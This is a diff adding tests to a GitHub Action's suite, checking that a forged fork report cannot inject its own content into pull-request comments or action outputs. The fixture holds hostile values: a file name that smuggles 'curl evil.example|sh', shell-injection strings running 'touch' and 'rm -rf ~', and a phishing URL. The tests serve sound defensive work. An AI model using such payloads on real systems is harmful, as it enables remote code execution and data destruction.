@@ -105,6 +105,56 @@ describe('the action with mode comment-from-artifact', () => {
     expect(github.requests.filter((r) => r.method === 'PATCH')).toHaveLength(1);
   });
 
+  it("shows the pull request as the API has it, not as the fork's report claims, and sets no output text the fork chose", async () => {
+    const runId = nextRunId++;
+    const forged = makeReport({
+      repository: 'evil/elsewhere',
+      pullRequest: { ...PR, title: 'Approved by the security team', url: 'https://evil.example/phish' },
+      delivery: { requested: 'write', mode: 'write', files: ['$(curl evil.example|sh).test.ts'] },
+      inference: {
+        ...fixture.inference,
+        backend: '`touch /tmp/pwned`',
+        gpu: { device: '"; rm -rf ~; "', vramTotalBytes: 1, vramFreeBytes: 1, layersOffloaded: 1, totalLayers: 1 }
+      }
+    });
+    uploadReport(runId, forged);
+    const run = await commentAction(runId);
+    expect(run.warnings).toEqual([]);
+    const posted = commentsOn(PR.number).at(-1)!;
+    expect(posted).not.toContain('evil');
+    expect(posted).not.toContain('Approved by the security team');
+    expect(posted).toContain(PR.title);
+    const written = JSON.parse(await readFile(run.outputs['report-path']!, 'utf8')) as RunReport;
+    expect([written.repository, written.pullRequest?.title, written.pullRequest?.url]).toEqual([
+      'acme/shop',
+      PR.title,
+      `https://github.com/acme/shop/pull/${PR.number}`
+    ]);
+    expect(run.outputs).toMatchObject({ 'accepted-files': '', backend: '', 'gpu-device': '', 'gpu-layers': '1', 'tests-generated': '2' });
+  });
+
+  it('warns, posts nothing and stays green when a report passes its checks and still cannot be rendered', async () => {
+    const runId = nextRunId++;
+    // `compliance: {}` is an object, as the read checks, without the fields the views read.
+    uploadReport(runId, { ...fixture, compliance: {} } as unknown as RunReport);
+    const before = commentsOn(PR.number);
+    const run = await commentAction(runId);
+    expect(run.failed).toBeUndefined();
+    expect(run.warnings).toEqual([
+      expect.stringMatching(new RegExp(`^The report of workflow run ${runId} could not be rendered \\(.+\\), so no comment is posted`))
+    ]);
+    expect(commentsOn(PR.number)).toEqual(before);
+  });
+
+  it('does not post one shard of a sharded run as the whole pull request, nor read artifacts not named like its own', async () => {
+    const runId = nextRunId++;
+    const shard = makeReport({ shard: { index: 1, count: 3, packages: [{ packageDir: '', baseline: fixture.baseline }] } });
+    uploadReport(runId, shard, `aqe-report-pr${PR.number}-aqe-shard1of3`);
+    uploadReport(runId, fixture, 'aqe-report-html');
+    const run = await commentAction(runId);
+    expect(run.warnings).toEqual([expect.stringMatching(/cannot be merged into one comment: .*shard/)]);
+  });
+
   it('merges the artifacts of a sharded matrix into one comment', async () => {
     const runId = nextRunId++;
     for (const index of [1, 2]) {
